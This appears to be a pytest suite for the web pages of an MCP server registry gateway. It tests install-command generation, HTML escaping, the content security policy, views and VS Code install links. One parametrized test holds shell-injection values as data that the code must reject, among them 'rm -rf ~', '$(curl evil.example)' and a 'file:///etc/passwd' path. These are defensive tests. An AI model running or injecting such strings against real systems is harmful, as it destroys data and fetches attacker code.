"""The web pages, as HTML over HTTP (the browser tests drive them in Chromium)."""

from __future__ import annotations

import html
import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.app import REFRESHER
from gateway.install import package_command
from gateway.web import CSP
from tests.fakes import FakeMirror
from tests.web_catalog import (
    ADMIN_TOKEN,
    HOSTILE,
    NPM_MIRROR,
    PAYMENTS_NPM,
    PYPI_MIRROR,
    write_verified_web_config,
    write_web_config,
)


@pytest.fixture
async def client(tmp_path: Path, serve: Any) -> Any:
    return await serve(write_web_config(tmp_path / "config"))


async def page(client: Any, path: str, status: int = 200) -> str:
    response = await client.get(path)
    assert response.status == status, path
    assert response.headers["Content-Type"] == "text/html; charset=utf-8"
    assert response.headers["Content-Security-Policy"] == CSP
    text: str = await response.text()
    return text


def text_of(markup: str) -> str:
    """What a reader sees: tags removed, entities decoded, spaces collapsed."""
    return re.sub(r"\s+", " ", html.unescape(re.sub(r"<[^>]+>", " ", markup)))


@pytest.mark.parametrize(
    ("package", "command"),
    [
        ({"registryType": "npm", "identifier": "@a/b", "version": "1.0.0",
          "registryBaseUrl": NPM_MIRROR}, f"npx -y --registry {NPM_MIRROR} @a/b@1.0.0"),
        ({"registryType": "npm", "identifier": "@a/b"}, "npx -y @a/b"),
        ({"registryType": "pypi", "identifier": "acme-x", "version": "2.1",
          "registryBaseUrl": PYPI_MIRROR}, f"uvx --index-url {PYPI_MIRROR} acme-x@2.1"),
        ({"registryType": "oci", "identifier": "registry.example.com/ghcr/a/b:1"},
         "docker run -i --rm registry.example.com/ghcr/a/b:1"),
        ({"registryType": "oci", "identifier": "a/b", "version": "1.2",
          "registryBaseUrl": "https://ghcr.io"}, "docker run -i --rm ghcr.io/a/b:1.2"),
        ({"registryType": "nuget", "identifier": "Contoso.Mcp", "version": "1.0.0",
          "registryBaseUrl": "https://nexus.example.com/nuget/index.json"},
         "dnx Contoso.Mcp@1.0.0 --yes --add-source https://nexus.example.com/nuget/index.json"),
        ({"registryType": "cargo", "identifier": "mcp-x", "version": "0.3.0",
          "registryBaseUrl": "https://art.example.com/cargo/"},
         "cargo install mcp-x --version 0.3.0 --index sparse+https://art.example.com/cargo/"),
        ({"registryType": "mcpb", "identifier": "https://art.example.com/r/x.mcpb"},
         "curl --proto =http,https -g -fLO https://art.example.com/r/x.mcpb"),
        ({"registryType": "go", "identifier": "github.com/acme/weather", "version": "v1.2.0",
          "registryBaseUrl": "https://art.example.com/api/go/go-remote"},
         "GOPROXY=https://art.example.com/api/go/go-remote go run github.com/acme/weather@v1.2.0"),
        ({"registryType": "go", "identifier": "github.com/Acme/weather", "version": "1.2.0"},
         "go run github.com/Acme/weather@v1.2.0"),  # Go's versions carry their v
        ({"registryType": "maven", "identifier": "com.acme:weather-mcp", "version": "1.2.0",
          "registryBaseUrl": "https://nexus.example.com/repository/maven-central/"},
         "jbang --repos mirror=https://nexus.example.com/repository/maven-central/ "
         "com.acme:weather-mcp:1.2.0"),
        ({"registryType": "go", "identifier": "github.com/a/../../x", "version": "v1"}, None),
        ({"registryType": "go", "identifier": "-modfile=/tmp/x", "version": "v1"}, None),
        ({"registryType": "maven", "identifier": "com.acme:tool:1.0:jar"}, None),
        ({"registryType": "maven", "identifier": "-Dexec=evil:x"}, None),
        # Fields come from strangers: quoted for the shell, or no command at all.
        ({"registryType": "npm", "identifier": "x; rm -rf ~"}, None),
        ({"registryType": "npm", "identifier": "$(curl evil.example)"}, None),
        ({"registryType": "npm", "identifier": "x", "version": "npm:evil@1"}, None),
        ({"registryType": "npm", "identifier": "x", "version": "latest"}, None),
        ({"registryType": "pypi", "identifier": "pkg @ https://evil.example/x.whl"}, None),
        ({"registryType": "npm", "identifier": "x\u202eyz"}, None),  # a bidi override
        ({"registryType": "oci", "identifier": "x", "registryBaseUrl": "//-v"}, None),
        ({"registryType": "oci", "identifier": "acme/tool", "version": "1.2"},
         "docker run -i --rm acme/tool:1.2"),  # pinned, not :latest
        ({"registryType": "mcpb", "identifier": "file:///etc/passwd"}, None),
        ({"registryType": "npm", "identifier": "x", "registryBaseUrl": "ftp://m.example/"}, None),
        ({"registryType": "npm", "identifier": "--registry=https://evil.example/"}, None),
        ({"registryType": "pypi", "identifier": "ok", "registryBaseUrl": "-x"}, None),
        ({"registryType": "npm", "identifier": "a\nrm -rf ~"}, None),
        ({"registryType": "npm", "identifier": "a", "version": "1\r"}, None),
        ({"registryType": "gem", "identifier": "rails"}, None),
        ({"registryType": "npm"}, None),
    ],
)  # fmt: skip
def test_install_commands_use_the_served_location(
    package: dict[str, Any], command: str | None
) -> None:
    assert package_command(package) == command


async def test_the_catalog_lists_latest_versions_with_mirror_install_commands(client: Any) -> None:
    markup = await page(client, "/")
    seen = text_of(markup)
    assert "Acme Weather" in seen
    assert "v1.1.0" in seen  # the latest shown version (2.0.0 is held back, 0.9.0-beta denied)
    assert f"npx -y --registry {NPM_MIRROR} @acme/weather@1.1.0" in seen
    assert f"uvx --index-url {PYPI_MIRROR} acme-weather@1.1.0" in seen
    assert "docker run -i --rm registry.example.com/ghcr/example/old-tool:3.2.0" in seen
    assert "needs WEATHER_API_KEY" in seen
    assert re.search(r'class="badge deprecated">deprecated<', markup)
    assert "https://mcp.example.com/mcp" in seen  # a remote, with its transport
    assert "MCP registry URL for your IDE" in seen


async def test_no_page_makes_a_browser_fetch_from_a_third_party(client: Any) -> None:
    """Server icons are on their publishers' hosts: every developer's browser would contact
    them (and they are not there offline). The pages show a placeholder instead, and their
    policy allows images from the gateway alone."""
    for path in ("/", "/?q=weather", "/server/io.github.acme/weather"):
        answer = await client.get(path)
        markup = await answer.text()
        assert "acme.example.com/icon.png" not in markup
        assert not re.search(r"<img[^>]+src=\"https?://", markup)
        assert re.search(r'<span class="icon" aria-hidden="true">A</span>', markup)
        assert "img-src 'self';" in answer.headers["Content-Security-Policy"]


async def test_descriptions_from_strangers_are_text(client: Any) -> None:
    markup = await page(client, "/?q=mallory")
    assert "<script>" not in markup
    assert "<img src=x" not in markup
    assert html.escape(HOSTILE, quote=True) in markup  # shown, as text
    assert "javascript:" not in markup  # neither as an icon nor as a link
    server = await page(client, "/server/io.github.evil/mallory")
    assert "<script>" not in server
    assert "javascript:" not in server


async def test_search_and_paging(client: Any) -> None:
    found = text_of(await page(client, "/?q=WEATHER"))
    assert "Acme Weather" in found
    assert "old-tool" not in found
    first = await page(client, "/?q=filler")
    assert first.count('<article class="server">') == 50
    next_link = re.search(r'href="([^"]*after=[^"]*)" rel="next">Next page', first)
    assert next_link is not None
    second = await page(client, html.unescape(next_link.group(1)))
    assert second.count('<article class="server">') == 10
    assert "Next page" not in second
    none = text_of(await page(client, "/?q=nothing-is-called-this"))
    assert "No server matches" in none


async def test_a_view_page_shows_what_the_view_serves(client: Any) -> None:
    seen = text_of(await page(client, "/views/payments/"))
    assert f"npx -y --registry {PAYMENTS_NPM} @acme/weather@1.1.0" in seen
    assert "mallory" not in seen  # the view denies it
    assert "/views/payments" in seen  # its registry URL
    redirect = await client.get("/views/payments", allow_redirects=False)
    assert redirect.status == 308
    assert redirect.headers["Location"] == "/views/payments/"
    searched = await client.get("/views/payments?q=weather", allow_redirects=False)
    assert searched.headers["Location"] == "/views/payments/?q=weather"
    await page(client, "/views/nope/", 404)


async def test_a_server_page_says_why_each_version_is_shown_or_hidden(client: Any) -> None:
    markup = await page(client, "/server/io.github.acme/weather")
    rows = {  # each version's cells by their labels
        cells["Version"]: cells
        for cells in (
            {label: text_of(cell).strip()
             for label, cell in re.findall(r'<td data-label="([^"]+)">(.*?)</td>', row)}
            for row in re.findall(r"<tr><td .*?</tr>", markup)
        )
    }  # fmt: skip
    assert rows["1.1.0"]["Here"] == "shown (latest)"
    assert rows["1.0.0"]["Here"] == "shown"
    assert rows["0.9.0-beta"]["Here"].startswith("hidden: denied")
    assert rows["0.9.0-beta"]["Deciding rules"] == "policy.yaml rules[0]"
    assert rows["2.0.0"]["Here"].startswith("hidden: cooldown (until 2099-01-02")
    assert "Install version 1.1.0" in text_of(markup)
    assert 'href="https://github.com/acme/weather"' in markup
    in_view = text_of(await page(client, "/views/payments/server/io.github.evil/mallory"))
    assert "This view serves no version" in in_view
    assert "hidden: denied" in in_view
    await page(client, "/server/io.github.nobody/nothing", 404)


async def test_the_operators_page_is_a_shell_and_status_has_the_chart_data(client: Any) -> None:
    markup = await page(client, "/admin/")
    assert 'id="login"' in markup
    assert ADMIN_TOKEN not in markup
    assert '<script src="/_ui/admin.js">' in markup
    status = await (
        await client.get("/admin/status", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
    ).json()
    (history,) = [u["history"] for u in status["upstreams"]]
    assert len(history) == 1
    assert history[0][2] is True
    assert history[0][1] >= 0


async def test_without_an_admin_token_the_operators_page_is_off(tmp_path: Path, serve: Any) -> None:
    client = await serve(write_web_config(tmp_path / "config", admin_token=None))
    await page(client, "/admin/", 404)


async def test_assets_have_no_inline_code_to_allow(client: Any) -> None:
    for name in ("style.css", "catalog.js", "admin.js"):
        response = await client.get(f"/_ui/{name}")
        assert response.status == 200
        assert response.headers["Content-Security-Policy"] == CSP
        etag = response.headers["ETag"]
        again = await client.get(f"/_ui/{name}", headers={"If-None-Match": etag})
        assert again.status == 304
    for path in ("/", "/admin/", "/server/io.github.acme/weather"):
        markup = await page(client, path)
        tags = re.findall(r"<[^>]+>", markup)  # real tags: text has &lt; instead
        assert "<script>" not in tags, path
        assert not [
            t for t in tags if t.startswith("<style") or re.search(r"\s(style|on[a-z]+)=", t)
        ]
    admin_js = await (await client.get("/_ui/admin.js")).text()
    assert "innerHTML" not in admin_js  # values are set as text only
    assert "sessionStorage" in admin_js
    assert "localStorage" not in admin_js
    missing = await client.get("/_ui/nothing.js")
    assert missing.status == 404


async def test_the_mirror_verification_result_is_shown(
    tmp_path: Path, serve: Any, mirror: FakeMirror
) -> None:
    """With verification on, each install command says what the mirror answered."""
    client = await serve(write_verified_web_config(tmp_path / "config", f"{mirror.url}/npm/"))
    refresher = client.app[REFRESHER]
    await refresher.verify()
    await refresher.rebuild_now()
    seen = text_of(await page(client, "/?q=weather"))
    assert "mirror: missing" in seen  # 1.1.0, the latest, never reached the mirror
    older = text_of(await page(client, "/server/io.github.acme/weather"))
    assert f"npx -y --registry {mirror.url}/npm/ @acme/weather@1.1.0" in older


async def test_views_are_listed_for_people_and_for_programs(client: Any) -> None:
    answer = await client.get("/views")
    assert answer.status == 200
    assert answer.content_type == "application/json"
    origin = str(client.make_url("")).rstrip("/")
    assert await answer.json() == {"views": [
        {"name": "default", "description": "every server policy.yaml allows", "url": origin},
        {"name": "payments",
         "description": "What the payments teams may install: nothing from io.github.evil.",
         "url": f"{origin}/views/payments"},
    ]}  # fmt: skip
    assert (await (await client.get("/views/")).json()) == (
        await (await client.get("/views")).json()
    )
    markup = await page(client, "/views/payments/")
    assert re.search(r'<a href="/views/payments/" aria-current="page" class="active">payments</a>',
                     markup)  # fmt: skip
    assert "What the payments teams may install: nothing from io.github.evil." in text_of(markup)
    home = await page(client, "/")
    assert re.search(r'<a href="/" aria-current="page" class="active">all servers</a>', home)
    assert 'href="/views/payments/" aria-current' not in home


async def test_a_server_page_installs_in_vscode_from_the_mirror(client: Any) -> None:
    """VS Code's install link and the mcp.json to paste name the same command, from the
    mirror, and ask for the secret rather than carry it."""
    from urllib.parse import unquote

    markup = await page(client, "/server/io.github.acme/weather")
    entry = {
        "type": "stdio", "command": "npx",
        "args": ["-y", "--registry", NPM_MIRROR, "@acme/weather@1.1.0"],
        "env": {"WEATHER_API_KEY": "${input:WEATHER_API_KEY}"},
    }  # fmt: skip
    inputs = [{"id": "WEATHER_API_KEY", "type": "promptString",
               "description": "WEATHER_API_KEY", "password": True}]  # fmt: skip
    link = re.search(r'<a class="vscode" href="vscode:mcp/install\?([^"]+)">', markup)
    assert link is not None
    configuration = json.loads(unquote(html.unescape(link[1])))
    assert configuration == {"name": "io.github.acme/weather", **entry, "inputs": inputs}
    snippet = re.search(r'<pre class="snippet"><code>(.*?)</code></pre>', markup, re.S)
    assert snippet is not None
    assert json.loads(html.unescape(snippet[1])) == {
        "servers": {"io.github.acme/weather": entry}, "inputs": inputs}  # fmt: skip


async def test_the_catalog_says_where_to_paste_its_registry_url(client: Any) -> None:
    markup = await page(client, "/views/payments/")
    url = str(client.make_url("/views/payments")).rstrip("/")
    assert f'data-copy="{url}"' in markup
    setting = html.escape(f'"chat.mcp.gallery.serviceUrl": "{url}"', quote=True)
    assert f'data-copy="{setting}"' in markup
    assert "McpGalleryServiceUrl" in markup


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=30),
    lambda children: st.lists(children, max_size=4)
    | st.dictionaries(st.sampled_from(["registryType", "identifier", "version", "registryBaseUrl",
                                       "environmentVariables", "name", "isSecret", "url",
                                       "type", "description"]), children, max_size=6),
    max_leaves=25,
)  # fmt: skip


@given(st.dictionaries(st.sampled_from(["packages", "remotes"]), JSON, max_size=2))
def test_any_server_gives_a_safe_ide_entry_or_none(server: dict[str, Any]) -> None:
    from gateway.install import _ENV_NAME, ide_entry, mcp_json, vscode_link

    found = ide_entry(server)
    if found is None:
        return
    entry, inputs = found
    assert entry["type"] in ("stdio", "http", "sse")
    assert all(_ENV_NAME.fullmatch(name) for name in entry.get("env", {}))
    assert [i["id"] for i in inputs] == list(entry.get("env", {}))
    assert json.loads(mcp_json("n", entry, inputs))["servers"]["n"] == entry
    assert vscode_link("n", entry, inputs).startswith("vscode:mcp/install?%7B")
